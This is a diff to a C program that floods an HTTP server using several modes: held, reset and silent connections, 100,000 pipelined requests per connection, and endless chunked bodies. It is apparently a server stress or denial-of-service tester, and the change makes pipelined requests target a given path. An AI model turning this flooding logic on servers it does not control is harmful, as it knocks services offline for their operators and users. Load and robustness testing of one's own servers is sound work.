@@ -3,7 +3,7 @@
  *     hold      connects, asks for one page on each connection, and stays
  *     flood     connects without a word, as fast as it goes; the oldest of CONNECTIONS makes room
  *     reset     connects, says nothing, half a head, a page's or an event's request, and resets
- *     pipeline  100 000 requests on each connection, of whose answers nothing is ever read
+ *     pipeline  100 000 requests for TARGET on each connection, of whose answers nothing is ever read
  *     devour    the same, but answers are read as fast as they come
  *     chunks    chunked bodies without end to each TARGET in turn
  *
@@ -23,7 +23,7 @@
 #include <time.h>
 #include <unistd.h>
 
-enum { CONNECTIONS_MAX = 4096, PIPELINE = 100000, CHUNK = 1000, TARGETS_MAX = 4 };
+enum { CONNECTIONS_MAX = 4096, PIPELINE = 100000, AT_ONCE = 2000, REQUEST_MAX = 64, CHUNK = 1000 };
 
 struct attacker {
     int fd; /* -1: to be connected anew */
@@ -39,6 +39,8 @@ struct attack {
     struct pollfd polls[CONNECTIONS_MAX];
     char **targets;
     size_t target_count;
+    char request[REQUEST_MAX]; /* what a pipeline is made of */
+    size_t request_len;
     uint64_t connected, refused, bytes;
 };
 
@@ -152,15 +154,14 @@ static void storm(struct attack *attack)
 
 static void send_pipeline(struct attack *attack, struct attacker *attacker)
 {
-    static const char request[] = "GET / HTTP/1.1\r\nHost: a\r\n\r\n";
-    enum { LEN = sizeof request - 1, AT_ONCE = 2000 };
-    static char many[LEN * AT_ONCE];
+    static char many[REQUEST_MAX * AT_ONCE];
+    size_t len = attack->request_len;
     if (!many[0])
         for (size_t i = 0; i < AT_ONCE; i++)
-            memcpy(many + i * LEN, request, LEN);
-    size_t from = attacker->sent % LEN;
-    size_t rest = (size_t)PIPELINE * LEN - attacker->sent;
-    size_t room = sizeof many - from;
+            memcpy(many + i * len, attack->request, len);
+    size_t from = attacker->sent % len;
+    size_t rest = PIPELINE * len - attacker->sent;
+    size_t room = AT_ONCE * len - from;
     if (rest > 0)
         send_some(attack, attacker, many + from, rest < room ? rest : room);
 }
@@ -214,7 +215,7 @@ static void go_on(struct attack *attack)
             struct attacker *attacker = &attack->attackers[i];
             if (attacker->fd < 0)
                 (void)begin(attack, attacker);
-            bool all_out = has_end && attacker->sent == (size_t)PIPELINE * 27;
+            bool all_out = has_end && attacker->sent == PIPELINE * attack->request_len;
             short wanted = (short)((all_out ? 0 : POLLOUT) | (is_pipeline ? 0 : POLLIN));
             attack->polls[i] = (struct pollfd){.fd = attacker->fd, .events = wanted};
         }
@@ -248,6 +249,11 @@ int main(int argc, char **argv)
         files.rlim_cur = files.rlim_max;
         (void)setrlimit(RLIMIT_NOFILE, &files);
     }
+    attack.request_len =
+        (size_t)snprintf(attack.request, sizeof attack.request, "GET %s HTTP/1.1\r\nHost: a\r\n\r\n",
+                         attack.target_count > 0 ? attack.targets[0] : "/");
+    if (attack.request_len >= sizeof attack.request)
+        return 2;
     for (size_t i = 0; i < attack.count; i++)
         attack.attackers[i].fd = -1;
 
